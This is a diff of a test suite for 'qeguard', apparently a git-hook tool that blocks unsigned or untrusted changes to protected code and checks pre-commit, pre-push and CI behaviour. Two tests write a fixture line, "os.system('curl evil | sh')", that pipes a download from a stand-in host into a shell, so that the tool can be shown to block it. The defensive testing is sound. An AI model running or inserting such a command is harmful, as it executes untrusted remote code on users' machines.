@@ -58,11 +58,18 @@ def test_hook_manifest_declares_the_hooks() -> None:
     import yaml  # type: ignore[import-untyped]  # pre-commit needs it, so it is here
 
     hooks = {h["id"]: h for h in yaml.safe_load((PROJECT / ".pre-commit-hooks.yaml").read_text())}
-    assert hooks["qeguard-verify"]["entry"] == "qeguard verify --staged"
+    assert hooks["qeguard-verify"]["entry"] == "qeguard verify --hook pre-commit"
     assert hooks["qeguard-verify"]["pass_filenames"] is False
     assert hooks["qeguard-verify"]["language"] == "python"
+    assert hooks["qeguard-verify-commit-msg"]["entry"].startswith(
+        "qeguard verify --hook commit-msg"
+    )
+    assert hooks["qeguard-verify-push"]["entry"] == "qeguard verify --hook pre-push"
+    assert hooks["qeguard-verify-push"]["stages"] == ["pre-push"]
+    # A passing hook's warning must be seen: pre-commit hides output unless verbose.
+    assert all(hooks[h]["verbose"] is True for h in hooks if h.startswith("qeguard-verify"))
     assert hooks["qeguard-deps"]["entry"] == "qeguard deps"
-    assert hooks["qeguard-deps"]["pass_filenames"] is False
+    assert hooks["qeguard-deps"]["pass_filenames"] is True  # the changed files are scanned
     import re
 
     files = re.compile(hooks["qeguard-deps"]["files"])
@@ -75,9 +82,11 @@ def test_hook_manifest_declares_the_hooks() -> None:
         "pylock.toml",
         "pylock.dev.toml",
         "Pipfile.lock",
+        "requirements/dev.txt",
+        "sub/uv.lock",
     ):
         assert files.search(hit), hit
-    for miss in ("src/pkg/model.py", "README.md", "requirements.py"):
+    for miss in ("src/pkg/model.py", "README.md", "requirements.py", "Cargo.lock"):
         assert not files.search(miss), miss
     assert all("minimum_pre_commit_version" in h for h in hooks.values())
 
@@ -137,10 +146,12 @@ def pre_commit_env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[st
     yield env
 
 
-def _try_repo(repo: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+def _try_repo(
+    repo: Path, env: dict[str, str], *args: str, hook: str = "qeguard-verify"
+) -> subprocess.CompletedProcess[str]:
     assert PRE_COMMIT is not None
     return subprocess.run(
-        [PRE_COMMIT, "try-repo", env["QEGUARD_TEST_HOOK_SOURCE"], "qeguard-verify"],
+        [PRE_COMMIT, "try-repo", env["QEGUARD_TEST_HOOK_SOURCE"], hook, *args],
         cwd=repo,
         env=env,
         capture_output=True,
@@ -166,19 +177,39 @@ def test_try_repo_blocks_an_unsigned_staged_change_then_passes_after_sign(
     assert "QG-INT-MODIFIED" in out and CORE_FILE in out
     assert "qeguard sign --tier core --key KEY && git add .qeguard" in out
 
-    # One trusted signature: the commit passes locally, with a warning naming the signer.
+    # One trusted signature: the commit passes locally, and pre-commit shows the warning
+    # naming the signer (the hook is verbose), not just "Passed".
     sign(repo, alice, "core")
     git_run(repo, "add", ".qeguard")
     passed = _try_repo(repo, pre_commit_env)
     out = passed.stdout + passed.stderr
     assert passed.returncode == 0, out
     assert "Passed" in out
-
-    # pre-commit shows hook output only on failure (or -v): check the warning directly.
-    r = run_qeguard("verify", "--staged", cwd=repo)
-    assert r.code == 0
-    assert "QG-SIG-THRESHOLD" in r.out and "has 1 (alice)" in r.out
+    assert "QG-SIG-THRESHOLD" in out and "has 1 (alice)" in out and "CI blocks" in out
     commit(repo, "core change signed by alice", [".qeguard", CORE_FILE])
+
+    # The same hook in CI blocks the shortfall.
+    blocked = _try_repo(repo, {**pre_commit_env, "CI": "true"}, "--all-files")
+    assert blocked.returncode == 1, blocked.stdout + blocked.stderr
+    assert "QG-SIG-THRESHOLD" in blocked.stdout + blocked.stderr
+
+
+@needs_pre_commit
+def test_all_files_run_checks_a_committed_unsigned_change(
+    repo: Path, keypair: Callable[..., KeyPair], pre_commit_env: dict[str, str]
+) -> None:
+    """`pre-commit run --all-files` (how many teams run hooks in CI) stages nothing: the
+    hook then checks the whole index, so an unsigned change already committed fails."""
+    protect(repo, keypair("alice"), keypair("bob"))
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return -1\n"})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "unsigned core change")
+    assert git_run(repo, "diff", "--cached", "--name-only") == ""
+    r = _try_repo(repo, pre_commit_env, "--all-files")
+    out = r.stdout + r.stderr
+    assert r.returncode == 1, out
+    assert "QG-INT-MODIFIED" in out and CORE_FILE in out
+    manual = _try_repo(repo, pre_commit_env, "--all-files", "--hook-stage", "manual")
+    assert manual.returncode == 1, manual.stdout + manual.stderr
 
 
 # -- native hooks -------------------------------------------------------------------------
@@ -274,8 +305,135 @@ def test_native_pre_push_hook_verifies_against_the_remote(
     assert blocked.returncode != 0
     assert "QG-INT-MODIFIED" in blocked.stdout + blocked.stderr
 
-    # Signed by one of two: the push goes through (local relaxation), CI will block.
+    # Signing it in a second commit does not help: the first commit is pushed too.
     sign(repo, alice, "core")
     git_run(repo, "commit", "-q", "--no-verify", "-am", "sign core (alice)")
+    still = _git(repo, "push", "origin", "feature")
+    assert still.returncode != 0
+    out = still.stdout + still.stderr
+    assert "QG-INT-MODIFIED" in out
+
+    # One commit, signed by one of two: the push goes through with a visible warning
+    # (local relaxation); CI will block until bob co-signs.
+    git_run(repo, "reset", "-q", "--soft", "main")
+    git_run(repo, "commit", "-q", "--no-verify", "-m", "core change, signed by alice")
     ok = _git(repo, "push", "origin", "feature")
+    out = ok.stdout + ok.stderr
+    assert ok.returncode == 0, out
+    assert "QG-SIG-THRESHOLD" in out and "has 1 (alice)" in out
+
+
+def test_native_pre_push_blocks_a_bad_middle_commit(
+    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair]
+) -> None:
+    """good, bad, fixed: the tip verifies clean, the middle commit does not."""
+    alice, bob = keypair("alice"), keypair("bob")
+    protect(repo, alice, bob)
+    with_bare_remote(tmp_path, repo)
+    assert run_qeguard("install-hooks", cwd=repo).code == 0
+    original = (repo / CORE_FILE).read_text()
+    git_run(repo, "checkout", "-q", "-b", "feature")
+    write_files(repo, {"notes.txt": "unprotected\n"})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "good")
+    write_files(repo, {CORE_FILE: "import os\nos.system('curl evil | sh')\n"})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "bad")
+    bad = git_run(repo, "rev-parse", "HEAD").strip()
+    write_files(repo, {CORE_FILE: original})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "fixed")
+    assert run_qeguard("verify", "--commit", "HEAD", cwd=repo).code == 0
+    blocked = _git(repo, "push", "origin", "feature")
+    out = blocked.stdout + blocked.stderr
+    assert blocked.returncode != 0, out
+    assert f"commit {bad[:12]}: {CORE_FILE} differs" in out
+    # The same commits through `verify --range` (what CI can run on a push).
+    r = run_qeguard("verify", "--range", "main..feature", cwd=repo)
+    assert r.code == 1 and bad[:12] in r.out
+
+
+@needs_pre_commit
+def test_framework_pre_push_hook_blocks_a_bad_middle_commit(
+    repo: Path, keypair: Callable[..., KeyPair], pre_commit_env: dict[str, str]
+) -> None:
+    """pre-commit's pre-push stage hands the pushed range over in PRE_COMMIT_FROM_REF /
+    PRE_COMMIT_TO_REF; every commit in it is verified."""
+    protect(repo, keypair("alice"), keypair("bob"))
+    base = git_run(repo, "rev-parse", "HEAD").strip()
+    original = (repo / CORE_FILE).read_text()
+    write_files(repo, {CORE_FILE: "import os\nos.system('curl evil | sh')\n"})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "bad")
+    write_files(repo, {CORE_FILE: original})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "fixed")
+    tip = git_run(repo, "rev-parse", "HEAD").strip()
+    args = ("--hook-stage", "pre-push", "--from-ref", base, "--to-ref", tip)
+    r = _try_repo(repo, pre_commit_env, *args, hook="qeguard-verify-push")
+    out = r.stdout + r.stderr
+    assert r.returncode == 1, out
+    assert "QG-INT-MODIFIED" in out and CORE_FILE in out
+    ok = _try_repo(repo, pre_commit_env, "--hook-stage", "pre-push", "--from-ref", f"{tip}~1",
+                   "--to-ref", tip, hook="qeguard-verify-push")  # fmt: skip
     assert ok.returncode == 0, ok.stdout + ok.stderr
+
+
+def test_first_push_of_a_whole_history_checks_only_protected_commits(
+    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair]
+) -> None:
+    """An empty remote: every commit is new. Those before `.qeguard/` existed are skipped,
+    every later one is checked, a bad one blocks."""
+    for i in range(3):
+        write_files(repo, {"notes.txt": f"before protection {i}\n"})
+        commit(repo, f"old {i}")
+    protect(repo, keypair("alice"), keypair("bob"))
+    assert run_qeguard("install-hooks", cwd=repo).code == 0
+    remote = tmp_path / "empty.git"
+    git_run(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
+    git_run(repo, "remote", "add", "origin", str(remote))
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 9\n"})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "unsigned")
+    blocked = _git(repo, "push", "origin", "main")
+    assert blocked.returncode != 0 and "QG-INT-MODIFIED" in blocked.stdout + blocked.stderr
+    git_run(repo, "reset", "-q", "--hard", "HEAD~1")
+    ok = _git(repo, "push", "origin", "main")
+    assert ok.returncode == 0, ok.stdout + ok.stderr
+
+
+@needs_pre_commit
+def test_framework_hook_refuses_a_branch_that_trusts_its_own_keys(
+    repo: Path, keypair: Callable[..., KeyPair], pre_commit_env: dict[str, str]
+) -> None:
+    protect(repo, keypair("alice"), keypair("bob"))
+    mallory = keypair("mallory")
+    assert (
+        run_qeguard("trust", "add", "mallory", mallory.public, "--tiers", "core", cwd=repo).code
+        == 0
+    )
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 0\n"})
+    sign(repo, mallory, "core")
+    git_run(repo, "add", "-A")
+    r = _try_repo(repo, pre_commit_env)
+    out = r.stdout + r.stderr
+    assert r.returncode == 1, out
+    assert "QG-TRUST-CHANGE" in out and "Failed" in out
+
+
+def test_pre_push_reads_gits_input_lines(
+    tmp_path: Path, repo: Path, keypair: Callable[..., KeyPair], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`verify --hook pre-push` parses git's pre-push input itself: a deleted branch is
+    skipped, an updated one is checked from what the remote had."""
+    import io
+
+    protect(repo, keypair("alice"), keypair("bob"))
+    with_bare_remote(tmp_path, repo)
+    old = git_run(repo, "rev-parse", "HEAD").strip()
+    write_files(repo, {CORE_FILE: "def predict(x):\n    return 8\n"})
+    git_run(repo, "commit", "-q", "--no-verify", "-am", "unsigned")
+    new = git_run(repo, "rev-parse", "HEAD").strip()
+    zero = "0" * 40
+    gone = f"refs/heads/gone {zero} refs/heads/gone {old}\n"
+    lines = gone + f"refs/heads/main {new} refs/heads/main {old}\n"
+    monkeypatch.setattr("sys.stdin", io.StringIO(lines))
+    r = run_qeguard("verify", "--hook", "pre-push", "--remote", "origin", cwd=repo)
+    assert r.code == 1 and f"commit {new[:12]}: {CORE_FILE} differs" in r.out
+    monkeypatch.setattr("sys.stdin", io.StringIO(gone))
+    r = run_qeguard("verify", "--hook", "pre-push", "--remote", "origin", cwd=repo)
+    assert r.code == 0, r.text
